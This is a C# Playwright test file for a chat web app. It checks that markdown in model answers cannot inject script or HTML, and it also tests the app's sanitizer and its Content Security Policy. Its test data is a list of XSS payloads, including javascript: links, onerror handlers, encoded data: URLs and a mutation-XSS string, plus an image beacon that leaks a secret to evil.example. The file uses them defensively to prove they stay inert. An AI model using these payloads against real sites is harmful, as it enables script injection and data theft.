using ChatKit.Browser.Tests.Browsing;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace ChatKit.Browser.Tests;

/// <summary>What a model writes, or is talked into writing, must stay text. Every page test also checks that no other origin was asked for anything.</summary>
public sealed class SafetyTests(Chromium chromium) : PageTest(chromium)
{
    public static TheoryData<string> Attacks() =>
    [
        "<script>window.hit = 1</script>",
        "<img src=x onerror=\"window.hit = 1\">",
        "<svg><script>window.hit = 1</script></svg>",
        "<iframe srcdoc=\"<script>parent.hit = 1</script>\"></iframe>",
        "<style>body { display: none }</style>",
        "<a href=\"javascript:window.hit = 1\">click</a>",
        "[click](javascript:window.hit=1)",
        "[click](JaVaScRiPt:window.hit=1)",
        "[click](&#106;avascript:window.hit=1)",
        "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0PTE8L3NjcmlwdD4=)",
        "[click](vbscript:window.hit=1)",
        "[click](\"onclick=\"window.hit=1)",
        "![x](https://evil.example/steal.png?q=secret)",
        "![x\" onerror=\"window.hit=1](x)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)",
        "```html\"onmouseover=\"window.hit=1\n<script>window.hit = 1</script>\n```",
        "```\n</code></pre><script>window.hit = 1</script>\n```",
        "| a |\n|---|\n| <img src=x onerror=window.hit=1> |",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hit=1&gt;\">",
        "[a]: javascript:window.hit=1\n\n[click][a]",
        "<https://example.org/\"onmouseover=\"window.hit=1>",
        "<form action=/chatkit><input name=x><button>click</button></form>",
    ];

    [SkippableTheory]
    [MemberData(nameof(Attacks))]
    public async Task Hostile_markdown_stays_text(string attack)
    {
        Server.WillAnswer($"{attack}\n\nHarmless end.");
        await Chat.OpenAsync();
        await Chat.SendAsync(attack);
        await Expect(Chat.Answers).ToContainTextAsync("Harmless end.");
        await Expect(Chat.Caret).ToHaveCountAsync(0);

        // Whatever can be clicked or hovered in the answer is, and what is clicked may only lead to harmless addresses.
        foreach (var element in await Chat.Answers.Locator("*").AllAsync()) await element.DispatchEventAsync("mouseover");
        var links = await Chat.Answers.Locator("a[href]").EvaluateAllAsync<string[]>("all => all.map(link => new URL(link.href).protocol)");
        Assert.All(links, protocol => Assert.Contains(protocol, new[] { "http:", "https:" }));
        Assert.Equal(0, await Chat.Answers.Locator("script, img, iframe, style, svg:not(.icon), form, input, math, object").CountAsync());
        Assert.False(await Chat.Answers.EvaluateAsync<bool>(
            "root => [...root.querySelectorAll('*')].some(element => [...element.attributes].some(({ name }) => name.startsWith('on') || name === 'style'))"));
        Assert.False(await Page.EvaluateAsync<bool>("'hit' in window"));
        await Expect(Chat.Questions).ToHaveTextAsync(attack);
    }

    /// <summary>The parser alone lets no HTML through, which would hide a hole in the second layer: it is asked directly.</summary>
    [SkippableFact]
    public async Task Cleaning_keeps_only_what_markdown_makes()
    {
        ExpectedConsoleError = "Content Security Policy";
        await Chat.OpenAsync();

        var kept = await Page.EvaluateAsync<string>("""
            async () => {
              const { purify } = await import("./app/markdown/purify.js");
              const holder = document.createElement("div");
              holder.append(purify(`<p style="color:red" id="x" data-y="1" onclick="hit()">a</p><img src="https://evil.example/x"><a href="javascript:hit()">b</a>
                <a href="https://example.org/">c</a><a href="/chatkit">d</a><input><svg><use href="#x"></use></svg><h1>e</h1>`.replace(/\n\s+/g, "")));
              return holder.innerHTML;
            }
            """);

        Assert.Equal("""<p>a</p><a>b</a><a href="https://example.org/">c</a><a>d</a>e""", kept);
    }

    [SkippableFact]
    public async Task An_image_is_a_link_to_it_and_is_never_fetched()
    {
        Server.WillAnswer("![a cat](https://images.example/cat.png)");
        await Chat.OpenAsync();

        await Chat.SendAsync("show me");

        await Expect(Chat.Answers.GetByText("a cat")).ToHaveAttributeAsync("href", "https://images.example/cat.png");
    }

    [SkippableFact]
    public async Task The_policy_lets_nothing_in_from_outside_and_no_string_become_html()
    {
        var response = await Page.GotoAsync(Server.Address);
        var policy = response!.Headers["content-security-policy"];

        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.Contains("script-src 'self';", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe", policy, StringComparison.Ordinal);
        Assert.Equal("nosniff", response.Headers["x-content-type-options"]);

        // The browser enforces it: the page's own scripts could not write HTML from a string if they wanted to.
        ExpectedConsoleError = "TrustedHTML";
        Assert.Equal("TypeError", await Page.EvaluateAsync<string>("(() => { try { document.body.innerHTML = '<p>'; } catch (e) { return e.name; } })()"));
    }
}
